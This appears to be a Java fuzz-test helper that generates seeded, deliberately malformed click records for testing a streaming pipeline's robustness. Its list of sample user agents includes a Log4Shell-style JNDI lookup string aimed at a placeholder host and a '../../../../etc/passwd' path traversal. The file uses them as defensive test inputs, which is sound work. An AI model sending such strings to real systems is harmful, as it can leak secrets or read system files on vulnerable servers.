package io.clickledger.streaming.land;

import io.clickledger.rules.contract.ClickJson;
import io.clickledger.rules.contract.ClickLimits;
import io.clickledger.rules.contract.Clicks;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Random;
import java.util.function.Supplier;

/**
 * Makes records that nobody would send by mistake: valid by the contract in most parts, and as hard
 * for enrichment and rules as chance makes them. The same seed makes the same records.
 */
final class AdversarialRecords {
  private static final List<String> REAL =
      List.of(
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
          "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/467.0.0.40.108;FBDV/iPhone14,5;FBSN/iOS;FBSV/17.5;FBSS/3;FBCR/;FBID/phone;FBLC/en_US;FBOP/80]",
          "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 1.1.4322; .NET CLR 2.0.50727; InfoPath.1)",
          "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
          "Dalvik/2.1.0 (Linux; U; Android 11; M2101K7AG Build/RKQ1.200826.002)",
          "Airmail 1.3.3 rv:237 (Macintosh; Mac OS X 10.9.3; nl_NL)",
          "\"Mozilla/5.0 (Linux; Android 4.4; Nexus 7/JSS15R)\"",
          "Mozilla%2F5.0%20%28X11%3B%20Linux%29",
          "null",
          "${jndi:ldap://${env:NAME}.example/a}",
          "../../../../etc/passwd");

  private static final List<String> PARTS =
      List.of(
          "(",
          ")",
          "[",
          "]",
          "{",
          "}",
          "<",
          ">",
          "/",
          "\\",
          "|",
          ";",
          ":",
          ",",
          "=",
          "@",
          "+",
          "-",
          "_",
          ".",
          "%",
          "&",
          "#",
          "$",
          "~",
          "^",
          "*",
          "?",
          "!",
          "'",
          "\"",
          "`",
          " ",
          "\t",
          "\n",
          "\r",
          "\u0000",
          "\u0001",
          "\u007f",
          "\u0085",
          "\u00a0",
          "\u00ad",
          "\u0220",
          "\u0300",
          "\u0660",
          "\u2002",
          "\u2028",
          "\u202e",
          "\u3000",
          "\ud83d\ude00",
          "\udbff\udfff",
          "\ufeff",
          "\ufffe",
          "\uffff",
          "a",
          "b.c",
          "Z",
          "1",
          "1.2.3",
          "10NT",
          "a/1",
          "a/1 (b;",
          "(b;",
          "a:b",
          "a=b",
          "a@b.c ",
          "user@host",
          "[at]",
          " at ",
          " dot ",
          "http://",
          "https://a.b/",
          "www.a",
          "index.htm",
          "<a href=\"http://a.b\">",
          "%20",
          "%2F",
          "%28",
          "\\x22",
          "\\u002f",
          "&amp;",
          "Mozilla/5.0 (",
          "Windows NT 10.0",
          "Android 9",
          "(KHTML, like Gecko)",
          "Build/",
          "bot",
          "550e8400-e29b-41d4-a716-446655440000",
          "QUJD",
          "==",
          "en-us",
          "../",
          "0x28");

  private final Random random;

  AdversarialRecords(long seed) {
    this.random = new Random(seed);
  }

  /** The value of the next record. */
  byte[] value() {
    ClickJson click =
        ClickJson.click("c" + random.nextInt())
            .withText("user_agent", text(ClickLimits.USER_AGENT_CHARACTERS));
    sometimes(2, () -> click.withText("ip_address", address()));
    sometimes(2, () -> click.withText("page_url", "http" + of("", "s") + "://" + host()));
    sometimes(6, () -> click.withText("click_url", "https://" + host() + "/" + text(600)));
    sometimes(4, () -> click.withText("user_id", text(ClickLimits.USER_ID_CHARACTERS)));
    sometimes(8, () -> click.with("clicked_at", time()));
    sometimes(8, () -> click.with("received_at", time()));
    sometimes(8, () -> click.with("claimed_cost_micros", number()).withText("currency", "EUR"));
    sometimes(4, () -> click.with("other", nested()));
    sometimes(8, () -> click.withText(text(64), text(2000)));
    sometimes(30, () -> click.with("user_agent", "\"\\ud800\\udc00\\ud800\""));
    byte[] value = click.bytes();
    return random.nextInt(25) == 0 ? damaged(value) : value;
  }

  /** The record's timestamp, in microseconds. */
  long micros() {
    return random.nextInt(20) > 0
        ? Clicks.NOON.toEpochMilli() * 1000
        : of(-1000L, 0L, Long.MAX_VALUE, Long.MIN_VALUE, random.nextLong());
  }

  /** Any text of at most so many characters, repetitive, nested, mixed or near a real one. */
  private String text(int most) {
    int length = 1 + (int) Math.exp(random.nextDouble() * Math.log(most));
    StringBuilder text = new StringBuilder();
    switch (random.nextInt(6)) {
      case 0 -> {
        String unit = part() + (random.nextBoolean() ? part() : "") + of("", " ", part());
        text.append(random.nextBoolean() ? part() : "");
        while (text.length() < length) {
          text.append(unit);
        }
      }
      case 1 -> {
        String[] units = {part(), part(), part(), part()};
        while (text.length() < length) {
          text.append(units[random.nextInt(units.length)]);
        }
      }
      case 2 -> {
        while (text.length() < length) {
          text.append(part());
        }
      }
      case 3 -> {
        while (text.length() < length) {
          text.appendCodePoint(character());
        }
      }
      case 4 -> {
        text.append(of(REAL.toArray(String[]::new)));
        for (int i = random.nextInt(4); i > 0; i--) {
          int at = random.nextInt(text.length() + 1);
          text.insert(at, part().repeat(1 + random.nextInt(40)));
        }
      }
      default -> {
        String open = of("(", "[", "{", "a/1 (", "(a; ", "<", "((");
        text.append(open.repeat(length / open.length() + 1));
        text.append(part().repeat(random.nextInt(5)));
      }
    }
    return cut(text, most);
  }

  private String host() {
    StringBuilder host = new StringBuilder();
    int labels = 1 + random.nextInt(random.nextInt(10) == 0 ? 500 : 5);
    for (int i = 0; i < labels; i++) {
      int length = 1 + random.nextInt(random.nextInt(10) == 0 ? 3000 : 20);
      for (int j = 0; j < length; j++) {
        host.appendCodePoint(random.nextInt(3) == 0 ? character() : 'a' + random.nextInt(26));
      }
      host.append(of(".", ".", "\u3002", "..", "@", ":", "xn--"));
    }
    return cut(host, random.nextInt(4) == 0 ? 7000 : 250);
  }

  private String address() {
    StringBuilder groups = new StringBuilder();
    for (int i = random.nextInt(9); i >= 0; i--) {
      groups.append(Integer.toHexString(random.nextInt(0x10000))).append(of(":", ":", ":", "::"));
    }
    return of(
        groups + "1",
        random.nextInt(256) + "." + random.nextInt(256) + ".0." + random.nextInt(300),
        "2001:db8::" + Integer.toHexString(random.nextInt(0x10000)),
        "::ffff:203.0.113." + random.nextInt(256),
        "fe80::1%eth0",
        "::",
        "::1",
        "2002:cb00:7107::1",
        "64:ff9b::203.0.113.7",
        text(60));
  }

  private String time() {
    return of(
        Long.toString(random.nextLong()),
        Long.toString(Instant.parse("9999-12-31T23:59:59.999Z").toEpochMilli()),
        "0",
        "-1",
        "\"9999-12-31T23:59:59.999999999Z\"",
        "\"1970-01-01T00:00Z\"",
        "\"2026-02-29T00:00+18:00\"",
        Long.toString(Clicks.NOON.toEpochMilli() + random.nextInt(100_000)));
  }

  private String number() {
    return of(
        Long.toString(random.nextLong()), "1e400", "-0", "9".repeat(2000), "0", "1000000000000");
  }

  private String nested() {
    int depth = random.nextInt(random.nextInt(10) == 0 ? 8000 : ClickLimits.OTHER_FIELD_DEPTH);
    return random.nextBoolean()
        ? "[".repeat(depth) + "1" + "]".repeat(depth)
        : "{\"a\":".repeat(depth) + "null" + "}".repeat(depth);
  }

  /** Any character that is none of a surrogate pair's halves, of all kinds alike. */
  private int character() {
    int bound = of(0x80, 0x250, 0x3000, 0x10000, 0x110000);
    int character = random.nextInt(bound);
    return character >= 0xd800 && character < 0xe000 ? 0xfffd : character;
  }

  private byte[] damaged(byte[] value) {
    return switch (random.nextInt(5)) {
      case 0 -> null;
      case 3 -> padded(value);
      case 1 -> java.util.Arrays.copyOf(value, random.nextInt(value.length));
      case 2 -> (new String(value, StandardCharsets.UTF_8) + "{").getBytes(StandardCharsets.UTF_8);
      default -> {
        value[random.nextInt(value.length)] = (byte) random.nextInt();
        yield value;
      }
    };
  }

  /** As a click, it would be valid but for its size. */
  private byte[] padded(byte[] value) {
    byte[] padded =
        java.util.Arrays.copyOf(value, ClickLimits.RECORD_BYTES + 1 + random.nextInt(1 << 20));
    java.util.Arrays.fill(padded, value.length, padded.length, (byte) ' ');
    return padded;
  }

  private String part() {
    return PARTS.get(random.nextInt(PARTS.size()));
  }

  @SafeVarargs
  private <T> T of(T... values) {
    return values[random.nextInt(values.length)];
  }

  private void sometimes(int oneIn, Supplier<?> change) {
    if (random.nextInt(oneIn) == 0) {
      change.get();
    }
  }

  private static String cut(StringBuilder text, int most) {
    if (text.length() > most) {
      text.setLength(Character.isHighSurrogate(text.charAt(most - 1)) ? most - 1 : most);
    }
    return text.toString();
  }
}
